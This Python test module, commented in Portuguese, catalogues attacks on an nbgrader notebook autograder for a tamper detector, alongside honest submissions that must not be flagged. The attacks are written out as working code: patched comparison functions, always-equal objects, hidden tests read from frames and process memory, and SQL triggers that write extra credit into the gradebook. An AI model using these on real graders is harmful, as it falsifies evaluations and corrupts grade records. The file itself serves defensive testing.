"""Os ataques que tentam subir a nota, e as entregas honestas que se parecem com eles."""

from copy import deepcopy
from textwrap import dedent

from nbformat.v4 import new_markdown_cell

from grading.results import State

from . import ANSWERS, Attack, answer, answer_lazily, find, graded_cells, prepend

TAMPERED = {"state": State.TAMPERED, "kinds": {"adulteracao"}}
"""Mexeu no que confere: a entrega inteira fica em zero, à espera de uma pessoa."""


def lazily(code, result="None"):
    """Respostas que não fazem nada, com uma célula antes que faz as conferências passarem."""

    def transform(notebook):
        answer_lazily(notebook, result)
        prepend(notebook, dedent(code))

    return transform


def blank(code):
    """O caderno em branco, com uma célula antes."""
    return lambda notebook: prepend(notebook, dedent(code))


def answering(code="", **answers):
    """Algumas respostas, que são o ataque, e talvez uma célula antes."""

    def transform(notebook):
        answer(notebook, **{name: dedent(text) for name, text in answers.items()})
        if code:
            prepend(notebook, dedent(code))

    return transform


def stealing(expression, code=""):
    """O ``total`` que sabe a resposta do teste visível e tira a do oculto da variável ``expected``, ao lado dele."""
    return answering(
        code, total=f"def total(numbers):\n    return 6 if len(numbers) == 3 and sum(numbers) == 6 else {expression}"
    )


# --- o caderno


def _tag(name):
    def transform(notebook):
        for cell in graded_cells(notebook):
            cell.metadata.tags = [name]

    return transform


def _edit(notebook):
    for cell in graded_cells(notebook):
        cell.source = "pass"


def _delete(notebook):
    kept = graded_cells(notebook)
    notebook.cells = [cell for cell in notebook.cells if cell not in kept]


def _duplicate(notebook):
    for cell in graded_cells(notebook):
        copy = deepcopy(cell)
        copy.source, copy.id = "pass", f"{cell.id}-copia"
        notebook.cells.append(copy)


def _retype(notebook):
    for cell in graded_cells(notebook):
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def _change_points(notebook):
    answer(notebook, total=ANSWERS["total"])
    find(notebook, "98_total_teste").metadata.nbgrader.points = 100


def _become_manual(notebook):
    for cell in graded_cells(notebook):
        cell.metadata.nbgrader.solution = True


def _rename(notebook):
    for cell in graded_cells(notebook):
        cell.metadata.nbgrader.grade_id += "_x"
        cell.source = "pass"


def _reorder(notebook):
    answer(notebook, total=ANSWERS["total"])
    tests = graded_cells(notebook)
    rest = [cell for cell in notebook.cells if cell not in tests]
    notebook.cells = [*tests, *rest, new_markdown_cell("Os testes estão no começo.")]


NOTEBOOK = [
    Attack(
        "etiqueta_pular",
        "Põe em cada teste a etiqueta que faz o executor pulá-lo: sem saída, o nbgrader dá os pontos.",
        _tag("skip-execution"),
        kinds={"etiqueta"},
    ),
    Attack(
        "etiqueta_aceitar_erro",
        "Põe em cada teste a etiqueta que faz o executor aceitar o erro dele.",
        _tag("raises-exception"),
        kinds={"etiqueta"},
        raises_score=False,
        why_not="o erro continua entre as saídas, e é por elas que o nbgrader dá a nota",
    ),
    Attack(
        "testes_editados",
        "Troca o texto de cada teste por um que não confere nada.",
        _edit,
        kinds={"celula_alterada"},
        raises_score=False,
        why_not="o nbgrader também põe de volta o texto original",
    ),
    Attack(
        "testes_apagados",
        "Apaga todos os testes.",
        _delete,
        kinds={"celula_faltando"},
        raises_score=False,
        why_not="sem a célula o nbgrader não dá nota a ela",
    ),
    Attack(
        "testes_duplicados",
        "Repete cada teste, com o mesmo id e um texto que não confere nada.",
        _duplicate,
        kinds={"celula_duplicada"},
        raises_score=False,
        why_not="o nbgrader interrompe a correção da turma inteira",
    ),
    Attack(
        "testes_viram_texto",
        "Faz de cada teste uma célula de texto, que não é executada.",
        _retype,
        kinds={"tipo_trocado"},
        raises_score=False,
        why_not="o nbgrader também põe de volta o tipo original",
    ),
    Attack(
        "pontos_mudados",
        "Acerta um exercício e diz, nos metadados, que ele vale cem pontos.",
        _change_points,
        score=2.0,
        kinds={"metadados_mudados"},
        raises_score=False,
        why_not="o nbgrader lê os pontos da base de notas; os dois pontos a mais são os do exercício feito",
    ),
    Attack(
        "testes_viram_resposta",
        "Diz, nos metadados, que cada teste é uma resposta que o professor corrige à mão.",
        _become_manual,
        kinds={"metadados_mudados"},
        raises_score=False,
        why_not="a nota fica à espera do professor",
    ),
    Attack(
        "testes_com_outro_id",
        "Dá a cada teste um id que a lição não tem e um texto que não confere nada.",
        _rename,
        raises_score=False,
        why_not="sem a célula o nbgrader não dá nota a ela",
    ),
    Attack(
        "testes_no_comeco",
        "Acerta um exercício e põe os testes antes das respostas.",
        _reorder,
        score=2.0,
        kinds={"ordem_trocada"},
        raises_score=False,
        why_not="os testes rodam antes de as funções existirem",
    ),
]

# --- o IPython e as mensagens do Jupyter

JUPYTER = [
    Attack(
        "transformador_de_entrada",
        "Um transformador de entrada esvazia toda célula que tem «Confere».",
        blank(
            """\
            def erase(lines):
                return [] if any("Confere" in line for line in lines) else lines

            get_ipython().input_transformers_cleanup.append(erase)
            """
        ),
        kinds={"nome_suspeito"},
    ),
    Attack(
        "transformador_de_entrada_depois",
        "O mesmo, na lista dos transformadores que vêm depois.",
        blank(
            """\
            def erase(lines):
                return [] if any("Confere" in line for line in lines) else lines

            get_ipython().input_transformers_post.append(erase)
            """
        ),
        kinds={"nome_suspeito"},
    ),
    Attack(
        "transformador_de_arvore",
        "Um transformador de árvores tira das células os assert, os if e as chamadas.",
        lazily(
            """\
            import ast

            class Erase(ast.NodeTransformer):
                def visit_Assert(self, node):
                    return ast.Pass()

                def visit_If(self, node):
                    return ast.Pass()

                def visit_Expr(self, node):
                    return ast.Pass()

            get_ipython().ast_transformers.append(Erase())
            """
        ),
        **TAMPERED,
    ),
    Attack(
        "compilador_trocado",
        "Troca o compilador do IPython por um que compila testes como se fossem vazios.",
        blank(
            """\
            compiler = get_ipython().compile
            original = compiler.ast_parse

            def parse(source, *rest, **named):
                return original("" if "Confere" in source else source, *rest, **named)

            compiler.ast_parse = parse
            """
        ),
    ),
    Attack(
        "run_cell_trocado",
        "Troca run_cell por um que não executa os testes.",
        blank(
            """\
            shell = get_ipython()
            run_cell = shell.run_cell
            shell.run_cell = lambda code, *rest, **named: run_cell("" if "Confere" in code else code, *rest, **named)
            """
        ),
        kinds={"nome_suspeito"},
        raises_score=False,
        why_not="o ipykernel usa run_cell_async",
    ),
    Attack(
        "run_cell_async_trocado",
        "Troca run_cell_async por um que, no lugar do que mandarem, executa uma célula vazia.",
        blank(
            """\
            shell = get_ipython()
            run_cell_async = shell.run_cell_async
            shell.run_cell_async = lambda code, *rest, **named: run_cell_async("", *rest, **named)
            """
        ),
        **TAMPERED,
    ),
    Attack(
        "do_execute_trocado",
        "Troca do_execute, do kernel, por um que responde que correu tudo bem.",
        blank(
            """\
            async def do_execute(code, *rest, **named):
                return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}

            get_ipython().kernel.do_execute = do_execute
            """
        ),
        **TAMPERED,
    ),
    Attack(
        "erros_calados",
        "Troca a função com que o IPython mostra os erros.",
        blank("get_ipython().showtraceback = lambda *rest, **named: None"),
        raises_score=False,
        why_not="a resposta do kernel também diz que houve erro, e o nbgrader a põe entre as saídas",
    ),
    Attack(
        "erros_para_si",
        "Pede ao IPython, pela porta da frente, que entregue a ela todas as exceções.",
        blank("get_ipython().set_custom_exc((Exception,), lambda *rest, **named: None)"),
        raises_score=False,
        why_not="a resposta do kernel também diz que houve erro, e o nbgrader a põe entre as saídas",
    ),
    Attack(
        "excecao_do_depurador",
        "Levanta BdbQuit, que o IPython toma por uma saída do depurador e não mostra.",
        answering(
            **{
                name: f"def {name}(value):\n    import bdb\n    raise bdb.BdbQuit"
                for name in ("total", "mean", "scale", "center", "first")
            }
        ),
        raises_score=False,
        why_not="a resposta do kernel também diz que houve erro, e o nbgrader a põe entre as saídas",
    ),
    Attack(
        "mensagens_caladas",
        "Troca o send da sessão por um que não manda mensagens de erro.",
        blank(
            """\
            session = get_ipython().kernel.session
            send = session.send

            def quiet_send(stream, kind, *rest, **named):
                if kind != "error":
                    return send(stream, kind, *rest, **named)

            session.send = quiet_send
            """
        ),
        raises_score=False,
        why_not="a resposta do kernel também diz que houve erro, e o nbgrader a põe entre as saídas",
    ),
    Attack(
        "resultado_forjado_displayhook",
        "Mostra, de dentro da função testada, o número 2 como se fosse a última linha do teste.",
        answering(**{name: f"def {name}(value):\n    get_ipython().displayhook(2)" for name in ANSWERS}),
    ),
    Attack(
        "resultado_forjado_send",
        "Manda, de dentro da função testada, uma mensagem execute_result com o número 2.",
        lazily(
            """\
            def forge():
                kernel = get_ipython().kernel
                content = {"data": {"text/plain": "2"}, "metadata": {}, "execution_count": 1}
                kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=kernel.get_parent("shell"),
                                    ident=b"kernel.execute_result")
            """,
            result="forge()",
        ),
    ),
    Attack(
        "fim_forjado",
        "Manda, de dentro da função testada, a mensagem de que a célula terminou: o erro chega tarde.",
        lazily(
            """\
            def forge():
                kernel = get_ipython().kernel
                kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"},
                                    parent=kernel.get_parent("shell"), ident=b"kernel.status")
            """,
            result="forge()",
        ),
        **TAMPERED,
    ),
]

# --- objetos que decidem a que são iguais

_ANYTHING = """\
class Anything:
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False
"""

OBJECTS = [
    Attack(
        "igual_a_tudo",
        "Devolve um objeto que se diz igual a tudo.",
        lazily(_ANYTHING, result="Anything()"),
        kinds={"igualdade", "nome_suspeito"},
    ),
    Attack(
        "int_igual_a_tudo",
        "Devolve um int com == próprio.",
        lazily(_ANYTHING.replace("Anything", "Anything(int)"), result="Anything()"),
        kinds={"igualdade", "nome_suspeito"},
    ),
    Attack(
        "metaclasse_igual_a_tudo",
        "Devolve uma classe, e é a metaclasse dela que tem o == próprio.",
        lazily(_ANYTHING.replace("Anything", "Meta(type)") + "\nclass Anything(metaclass=Meta):\n    pass", "Anything"),
        kinds={"igualdade", "nome_suspeito"},
    ),
    Attack(
        "igual_sem_escrever_o_nome",
        "O mesmo objeto, com os nomes montados em tempo de execução.",
        lazily(
            "Anything = type('A', (), {'__' + 'eq__': lambda *_: True, '__' + 'ne__': lambda *_: False})", "Anything()"
        ),
        kinds={"igualdade"},
    ),
    Attack(
        "igual_com_nome_de_biblioteca",
        "O mesmo objeto, numa classe que se põe num módulo da biblioteca e se diz dele.",
        lazily(
            _ANYTHING + "\nimport collections\nAnything.__module__ = 'collections'\ncollections.Anything = Anything",
            result="Anything()",
        ),
        kinds={"igualdade", "nome_suspeito"},
    ),
    Attack(
        "str_igual_a_tudo",
        "Devolve, onde se espera um número, um texto com == próprio.",
        lazily(_ANYTHING.replace("Anything", "Anything(str)"), result="Anything('6')"),
        kinds={"igualdade", "nome_suspeito"},
    ),
    Attack(
        "float_que_some_na_conta",
        "Devolve um float certo no teste visível, e que no oculto diz que a diferença é zero.",
        answering(
            mean="""\
            class Anything(float):
                def __sub__(self, other):
                    return 0.0

            def mean(numbers):
                return Anything(1.5)
            """
        ),
        kinds={"igualdade"},
    ),
    Attack(
        "array_igual_a_tudo",
        "Devolve um ndarray cujas operações dão sempre igual.",
        answering(
            scale="""\
            import numpy as np

            class Anything(np.ndarray):
                def __array_ufunc__(self, function, method, *inputs, **named):
                    return np.zeros(self.shape, bool) if function is np.isnan else np.ones(self.shape, bool)

            def scale(array):
                return array.view(Anything)
            """
        ),
        kinds={"igualdade", "nome_suspeito"},
        raises_score=False,
        why_not="assert_allclose combina várias operações, e responder sempre o mesmo a todas não o convence",
    ),
    Attack(
        "tensor_igual_a_tudo",
        "Devolve um Tensor que responde True a qualquer função do PyTorch.",
        answering(
            center="""\
            import torch

            class Anything(torch.Tensor):
                @classmethod
                def __torch_function__(cls, function, types, args=(), named=None):
                    return True

            def center(tensor):
                return tensor.as_subclass(Anything)
            """
        ),
        kinds={"igualdade", "nome_suspeito"},
    ),
    Attack(
        "isinstance_trocado",
        "Troca isinstance, para que um objeto que não é float passe por um.",
        answering(
            """\
            import builtins

            original = builtins.isinstance
            builtins.isinstance = lambda value, kind: kind is float or original(value, kind)
            """,
            mean="""\
            class Anything:
                def __float__(self):
                    return 1.5

                def __sub__(self, other):
                    return 0.0

            def mean(numbers):
                return Anything()
            """,
        ),
        **TAMPERED,
    ),
]

# --- o que confere, trocado


def _swap(name, code, sentence, **expected):
    return Attack(name, sentence, lazily(code), **{**TAMPERED, **expected})


SWAPS = [
    _swap(
        "conferencias_trocadas",
        """\
        import math, numpy, pandas, torch
        import llmdefinitions.testing

        math.isclose = torch.allclose = lambda *rest, **named: True
        for module in (numpy.testing, pandas.testing):
            for name in dir(module):
                if name.startswith("assert_"):
                    setattr(module, name, lambda *rest, **named: None)
        llmdefinitions.testing.check_equal = lambda *rest, **named: None
        """,
        "Troca, uma a uma, as funções com que os testes comparam.",
    ),
    _swap(
        "diferenca_trocada",
        "import llmdefinitions.testing\nllmdefinitions.testing._difference = lambda *rest: None",
        "Troca a função interna em que check_equal se apoia.",
    ),
    _swap(
        "isclose_do_numpy_trocado",
        """\
        import numpy

        for place in (numpy, numpy._core.numeric):
            place.isclose = lambda one, other, **named: numpy.ones(numpy.shape(other), bool)
        numpy.testing._private.utils.assert_array_compare = lambda *rest, **named: None
        """,
        "Troca as funções internas em que numpy.testing se apoia.",
    ),
    _swap(
        "assertion_error_trocado",
        """\
        import builtins, bdb
        builtins.AssertionError = bdb.BdbQuit

        def total(value):
            return 6
        """,
        "Troca AssertionError, o nome, pela exceção que o IPython não mostra.",
        raises_score=False,
        why_not="o exercício que levanta AssertionError pelo nome é respondido depois, por uma função que não acerta",
    ),
    _swap(
        "import_trocado",
        """\
        import builtins
        from unittest.mock import MagicMock

        original = builtins.__import__

        def fake(name, globals=None, locals=None, fromlist=(), level=0):
            of_test = globals is not None and globals.get("__name__") == "__main__"
            return MagicMock() if of_test else original(name, globals, locals, fromlist, level)

        builtins.__import__ = fake
        """,
        "Troca __import__ por um que dá aos testes módulos que aceitam tudo.",
    ),
    _swap(
        "sys_modules_trocado",
        """\
        import sys
        from unittest.mock import MagicMock
        import llmdefinitions.testing, math, numpy, pandas, torch

        for name in ("llmdefinitions.testing", "math", "numpy", "pandas", "torch"):
            sys.modules[name] = MagicMock()
        """,
        "Põe em sys.modules, no lugar das bibliotecas, módulos que aceitam tudo.",
    ),
    Attack(
        "falso_modulo_no_caminho",
        "Põe à frente dos que acham módulos um que dá um llmdefinitions.testing que aceita tudo.",
        lazily(
            """\
            import sys
            from importlib.machinery import ModuleSpec
            from unittest.mock import MagicMock

            class Finder:
                def find_spec(self, name, path=None, target=None):
                    return ModuleSpec(name, self) if name.partition(".")[0] == "llmdefinitions" else None

                def create_module(self, spec):
                    return MagicMock(__path__=[])

                def exec_module(self, module):
                    pass

            sys.meta_path.insert(0, Finder())
            """
        ),
    ),
    Attack(
        "codigo_da_biblioteca",
        "Troca por dentro, pelo __code__, as funções da biblioteca que conferem.",
        lazily(
            """\
            import llmdefinitions.testing

            llmdefinitions.testing.check_equal.__code__ = (lambda *rest, **named: None).__code__
            """
        ),
        kinds={"biblioteca"},
    ),
    Attack(
        "codigo_pelas_subclasses",
        "Chega ao espaço de nomes da biblioteca por __subclasses__ e troca o que confere.",
        lazily(
            """\
            import llmdefinitions.testing

            for one in AssertionError.__subclasses__():
                if one.__name__ == "CheckError":
                    one._render_traceback_.__globals__["_difference"] = lambda *rest: None
            """
        ),
        **TAMPERED,
    ),
    Attack(
        "troca_que_se_desfaz",
        "A função testada troca torch.allclose; a falsa põe a verdadeira de volta antes de responder.",
        answering(
            center="""\
            import torch

            def center(tensor):
                original = torch.allclose

                def fake(*rest, **named):
                    torch.allclose = original
                    return True

                torch.allclose = fake
                return tensor - 2 if tensor.sum() == 4 else tensor
            """
        ),
        **TAMPERED,
    ),
    Attack(
        "linha_que_troca",
        "Uma linha de execução troca as conferências sem parar, também no meio de um teste.",
        lazily(
            """\
            import threading, time, math, torch

            def swap():
                while True:
                    math.isclose = torch.allclose = lambda *rest, **named: True
                    time.sleep(0.0005)

            threading.Thread(target=swap, daemon=True).start()
            time.sleep(0.1)
            """
        ),
        **TAMPERED,
    ),
]

# --- arquivos ao lado do caderno

_MINE = """\
from pathlib import Path

mine = (
    "select submitted_notebook.id from submitted_notebook join submitted_assignment "
    "on submitted_assignment.id = submitted_notebook.assignment_id "
    f"where student_id = '{Path.cwd().parent.name}'"
)
"""
"""As linhas da base de notas que são do próprio estudante: o controle corrige todos numa base só."""

FILES = [
    Attack(
        "llmdefinitions_ao_lado",
        "Entrega um llmdefinitions que não confere nada.",
        answer_lazily,
        files={
            "llmdefinitions.py": "import sys\n"
            "sys.modules['llmdefinitions.testing'] = sys.modules[__name__]\n"
            "__path__ = []\n"
            "call = check_equal = lambda *rest, **named: None\n",
        },
        kinds={"arquivo_com_nome_de_biblioteca"},
    ),
    Attack(
        "torch_ao_lado",
        "Entrega um torch.py que diz sim a tudo.",
        answer_lazily,
        files={"torch.py": "tensor = lambda value: value\nallclose = lambda *rest: True\n"},
        kinds={"arquivo_com_nome_de_biblioteca"},
    ),
    *(
        Attack(
            f"{name}_ao_lado",
            f"Entrega um {name}.py que troca as conferências.",
            answer_lazily,
            files={f"{name}.py": "import torch\ntorch.allclose = lambda *rest, **named: True\n"},
            kinds={"arquivo_com_nome_de_biblioteca"},
            raises_score=False,
            why_not=why_not,
        )
        for name, why_not in (
            ("sitecustomize", "o Python o procura antes de pôr a pasta do caderno no caminho"),
            ("conftest", "só o pytest o lê"),
        )
    ),
    Attack(
        "partida_do_ipython",
        "Grava na pasta do usuário um programa que o IPython executa ao começar.",
        lazily(
            """\
            from pathlib import Path

            folder = Path.home() / ".ipython" / "profile_default" / "startup"
            folder.mkdir(parents=True, exist_ok=True)
            (folder / "nota.py").write_text("import torch; torch.allclose = lambda *rest, **named: True")
            """
        ),
        raises_score=False,
        why_not="este kernel já começou: quem ganha é a próxima entrega",
    ),
    Attack(
        "solucoes_no_disco",
        "Lê as soluções na pasta do curso e as executa.",
        blank(
            """\
            import json
            from pathlib import Path

            answers = []
            for path in Path("../../..").glob("solutions/*/*.ipynb"):
                for cell in json.loads(path.read_text())["cells"]:
                    if cell["metadata"].get("nbgrader", {}).get("solution"):
                        answers.append("".join(cell["source"]))

            def redo():
                for text in answers:
                    exec(text, globals())

            if answers:
                get_ipython().events.register("pre_run_cell", lambda *_: redo())
            """
        ),
    ),
    Attack(
        "testes_na_base_de_notas",
        "Lê o teste oculto na base de notas, que guarda o texto das células.",
        stealing(
            "peek()",
            """\
            def peek():
                import re, sqlite3
                from pathlib import Path

                [path] = Path("../../..").glob("gradebook.db")
                for (text,) in sqlite3.connect(path).execute("select source from source_cell"):
                    if found := re.search(r"expected = ([0-9 +]+)", text or ""):
                        return eval(found[1])
            """,
        ),
    ),
    Attack(
        "gatilho_na_base_de_notas",
        "Deixa na base de notas um gatilho que dá pontos extras a cada nota gravada.",
        blank(
            _MINE
            + dedent(
                """\
                import sqlite3

                for path in Path("../../..").glob("gradebook.db"):
                    with sqlite3.connect(path, timeout=20) as base:
                        base.execute(
                            "create trigger if not exists presente after update of auto_score on grade "
                            f"begin update grade set extra_credit = 1 where notebook_id in ({mine}); end"
                        )
                """
            )
        ),
    ),
    Attack(
        "nota_na_saida",
        "Ao terminar, pelo atexit, escreve pontos extras na base de notas.",
        blank(
            _MINE
            + dedent(
                """\
                import atexit, sqlite3

                def give():
                    for path in Path("../../..").glob("gradebook.db"):
                        with sqlite3.connect(path, timeout=20) as base:
                            base.execute(f"update grade set extra_credit = 1 where notebook_id in ({mine})")

                atexit.register(give)
                """
            )
        ),
    ),
    Attack(
        "memoria_do_corretor",
        "Procura o teste oculto na memória do processo que corrige, por /proc/PID/mem.",
        stealing(
            "peek()",
            """\
            def peek():
                import os, re

                parent = os.getppid()
                with open(f"/proc/{parent}/maps") as maps, open(f"/proc/{parent}/mem", "rb", 0) as memory:
                    for line in maps:
                        start, end = (int(part, 16) for part in line.split()[0].split("-"))
                        if "rw-p" in line and end - start < 2**28:
                            try:
                                memory.seek(start)
                                data = memory.read(end - start)
                            except OSError:
                                continue
                            if found := re.search(rb"expected = ([0-9]+ [+] [0-9]+)", data):
                                return eval(found[1])
            """,
        ),
    ),
    Attack(
        "ambiente_do_corretor",
        "Lê em /proc as variáveis de ambiente dos outros processos e, por elas, acha as soluções.",
        blank(
            """\
            import json
            from pathlib import Path

            answers = []
            for path in Path("/proc").glob("[0-9]*/environ"):
                try:
                    variables = dict(pair.split("=", 1) for pair in path.read_text().split("\\0") if "=" in pair)
                except OSError:
                    continue
                for notebook in Path(variables.get("CURSO", "/nada")).glob("solutions/*/*.ipynb"):
                    for cell in json.loads(notebook.read_text())["cells"]:
                        if cell["metadata"].get("nbgrader", {}).get("solution"):
                            answers.append("".join(cell["source"]))

            if answers:
                get_ipython().events.register("pre_run_cell", lambda *_: [exec(text, globals()) for text in answers])
            """
        ),
    ),
]

# --- o teste, lido de dentro da função testada


def _thief(name, sentence, expression, code="", kinds=frozenset({"quadros"}), **expected):
    return Attack(name, sentence, stealing(expression, dedent(code)), kinds=set(kinds), **expected)


_LOOK = """\
def look(frame):
    while frame:
        for space in (frame.f_locals, frame.f_globals):
            if isinstance(space.get("expected"), int):
                return space["expected"]
        frame = frame.f_back
"""

READS = [
    _thief(
        "quadro_getframe", "Lê a variável do teste por sys._getframe.", "look(sys._getframe())", "import sys\n" + _LOOK
    ),
    _thief(
        "quadro_inspect",
        "Lê a variável do teste por inspect.currentframe.",
        "look(inspect.currentframe())",
        "import inspect\n" + _LOOK,
    ),
    _thief(
        "quadro_inspect_stack",
        "Lê a variável do teste por inspect.stack.",
        "look(inspect.stack()[0].frame)",
        "import inspect\n" + _LOOK,
    ),
    _thief(
        "quadro_do_rastro",
        "Lê a variável do teste pelo quadro do rastro de uma exceção.",
        "peek()",
        _LOOK
        + """
def peek():
    try:
        raise ValueError
    except ValueError as error:
        return look(error.__traceback__.tb_frame)
""",
    ),
    _thief(
        "quadro_do_gerador",
        "Lê a variável do teste pelo quadro de um gerador em andamento.",
        "peek()",
        _LOOK
        + """
def peek():
    def walk():
        yield look(generator.gi_frame)
    generator = walk()
    return next(generator)
""",
    ),
    _thief(
        "quadro_do_alarme",
        "Lê a variável do teste pelo quadro que um alarme interrompe.",
        "peek()",
        "import signal\n"
        + _LOOK
        + """
def peek():
    seen = []
    signal.signal(signal.SIGALRM, lambda number, frame: seen.append(look(frame)))
    signal.setitimer(signal.ITIMER_REAL, 0.001)
    while not seen:
        pass
    return seen[0]
""",
    ),
    _thief(
        "quadros_de_outra_linha",
        "Lê a variável do teste de outra linha de execução, por sys._current_frames.",
        "peek()",
        "import sys, threading\n"
        + _LOOK
        + """
def peek():
    seen, main = [], threading.get_ident()
    thread = threading.Thread(target=lambda: seen.append(look(sys._current_frames()[main])))
    thread.start()
    thread.join()
    return seen[0]
""",
    ),
    _thief(
        "quadro_do_settrace",
        "Lê a variável do teste pelo quadro que sys.settrace entrega.",
        "peek()",
        "import sys\n"
        + _LOOK
        + """
def peek():
    seen = []
    sys.settrace(lambda frame, event, value: seen.append(look(frame)))
    (lambda: None)()
    sys.settrace(None)
    return seen[0]
""",
        kinds={"nome_suspeito"},
    ),
    _thief(
        "quadro_do_setprofile",
        "Lê a variável do teste pelo quadro que sys.setprofile, ligado antes, entrega.",
        "seen[-1]",
        "import sys\nseen = []\n"
        + _LOOK
        + """
def profile(frame, event, value):
    if event == "call" and frame.f_code.co_name == "total":
        seen.append(look(frame))

sys.setprofile(profile)
get_ipython().events.register("pre_run_cell", lambda *_: sys.setprofile(profile))
""",
        kinds=(),
    ),
    _thief(
        "quadro_do_pandas",
        "Lê a variável do teste por pd.eval, que olha os quadros de quem o chama.",
        "peek()",
        """\
        import pandas as pd

        def peek():
            for level in range(1, 9):
                try:
                    return int(pd.eval("expected", level=level))
                except Exception:
                    pass
        """,
    ),
    _thief(
        "quadro_do_ipython",
        "Lê a variável do teste por IPython.utils.frame, que olha os quadros de quem o chama.",
        "peek()",
        """\
        from IPython.utils.frame import extract_module_locals

        def peek():
            for depth in range(6):
                if found := extract_module_locals(depth)[1].get("expected"):
                    return found
        """,
    ),
    _thief("variavel_global", "Lê a variável do teste entre as globais.", "globals()['expected']", kinds=()),
    _thief(
        "texto_da_celula",
        "Lê o texto do teste em In, onde o IPython guarda as células.",
        "eval(re.search('expected = ([0-9 +]+)', In[-1])[1])",
        "import re",
        kinds=(),
    ),
    _thief(
        "texto_no_linecache",
        "Lê o texto do teste no linecache, onde o IPython guarda as células para os rastros.",
        "peek()",
        """\
        import linecache, re

        def peek():
            for name in list(linecache.cache):
                if found := re.search("expected = ([0-9 +]+)", "".join(linecache.getlines(name))):
                    if "peek" not in "".join(linecache.getlines(name)):
                        return eval(found[1])
        """,
        kinds=(),
    ),
    _thief(
        "objetos_na_memoria",
        "Procura a variável do teste entre todos os dicionários, por gc.get_objects.",
        "peek()",
        """\
        import gc

        def peek():
            for one in gc.get_objects():
                if type(one) is dict and type(one.get("expected")) is int and "numbers" not in one:
                    return one["expected"]
        """,
        kinds={"memoria"},
    ),
    _thief(
        "quadro_por_ctypes",
        "Lê a variável do teste pelo quadro que o ctypes pede ao interpretador.",
        "look(ctypes.py_object.from_buffer(ctypes.c_void_p(peek())).value)",
        "import ctypes\n"
        + _LOOK
        + """
peek = ctypes.pythonapi.PyEval_GetFrame
peek.restype = ctypes.c_void_p
""",
        kinds={"memoria"},
    ),
    _thief(
        "gancho_de_auditoria",
        "Põe o seu gancho de auditoria, que vê o código do teste passar por exec.",
        "peek()",
        """\
        import sys
        codes = []

        def keep(event, values):
            if event == "exec" and "expected" in values[0].co_names:
                codes.append(values[0])

        sys.addaudithook(keep)

        def peek():
            for code in reversed(codes):
                if numbers := [value for value in code.co_consts if type(value) is int]:
                    return numbers[0]
        """,
        kinds={"memoria"},
    ),
    Attack(
        "resposta_no_filho",
        "Duplica o processo a cada chamada e, nos filhos, experimenta respostas até uma passar.",
        answering(
            mean="""\
            import os

            def mean(numbers):
                if numbers == [1.0, 2.0]:
                    return 1.5
                for guess in range(1, 9):
                    child = os.fork()
                    if child == 0:
                        shell = get_ipython()
                        shell.showtraceback = lambda *rest, **named: os._exit(1)
                        shell.events.register("post_run_cell", lambda *rest: os._exit(0))
                        return float(guess)
                    if os.waitpid(child, 0)[1] == 0:
                        return float(guess)
            """
        ),
        kinds={"processos"},
    ),
]

# --- maneiras de terminar

ENDINGS = [
    Attack(
        "excecao_sem_texto",
        "Levanta uma exceção cujo __str__ levanta outra, para que o erro não possa ser mostrado.",
        answering(
            **{
                name: f"class Odd(Exception):\n    def __str__(self):\n        raise ValueError\n\n"
                f"def {name}(value):\n    raise Odd"
                for name in ("total", "mean", "scale", "center", "first")
            }
        ),
        raises_score=False,
        why_not="a resposta do kernel também diz que houve erro, e o nbgrader a põe entre as saídas",
    ),
    Attack(
        "sair_com_zero",
        "Termina o programa, com sucesso, de dentro da função testada.",
        answering(**{name: f"import sys\n\ndef {name}(value):\n    sys.exit(0)" for name in ANSWERS}),
        raises_score=False,
        why_not="o IPython toma SystemExit por um erro como os outros",
    ),
    Attack(
        "sair_sem_se_despedir",
        "Encerra o processo, com sucesso, de dentro da função testada.",
        answering(total="import os\n\ndef total(numbers):\n    os._exit(0)"),
        kinds={"nome_suspeito"},
        raises_score=False,
        why_not="o nbgrader deixa a entrega sem nota",
    ),
]

ATTACKS = [*NOTEBOOK, *JUPYTER, *OBJECTS, *SWAPS, *FILES, *READS, *ENDINGS]

# --- honestas


def _honest(**answers):
    return lambda notebook: answer(notebook, **{**ANSWERS, **{name: dedent(text) for name, text in answers.items()}})


HONEST = {
    "resposta_simples": _honest(),
    "namedtuple_dentro": _honest(
        total="""\
        from collections import namedtuple

        def total(numbers):
            Pair = namedtuple("Pair", "count total")
            return Pair(len(numbers), sum(numbers)).total
        """
    ),
    "dataclass_dentro": _honest(
        mean="""\
        from dataclasses import dataclass
        from typing import NamedTuple

        class Part(NamedTuple):
            value: float

        def mean(numbers):
            @dataclass
            class Mean:
                value: float

            assert Mean(1.0) == Mean(1.0)
            return Mean(sum(Part(number).value for number in numbers) / len(numbers)).value
        """
    ),
    "registro_e_avisos": _honest(
        total="""\
        import logging
        import warnings

        def total(numbers):
            logging.getLogger("aluno").warning("somando %d números", len(numbers))
            warnings.warn("somando")
            return sum(numbers)
        """
    ),
    "rastro_de_um_erro": _honest(
        mean="""\
        import traceback

        def mean(numbers):
            try:
                numbers["a"]
            except TypeError:
                text = traceback.format_exc()
            assert "TypeError" in text
            return sum(numbers) / len(numbers)
        """
    ),
    "assinatura_e_contexto": _honest(
        total="""\
        import contextlib
        import inspect

        def total(numbers):
            assert list(inspect.signature(total).parameters) == ["numbers"]
            with contextlib.suppress(ValueError):
                return sum(numbers)
        """
    ),
    "consulta_do_pandas": _honest(
        first="""\
        def first(df):
            row = df.index[0]
            return df.query("index == @row")
        """
    ),
}
"""Entregas certas que usam, para o que servem, as mesmas coisas que os ataques: nenhuma pode ganhar um sinal."""
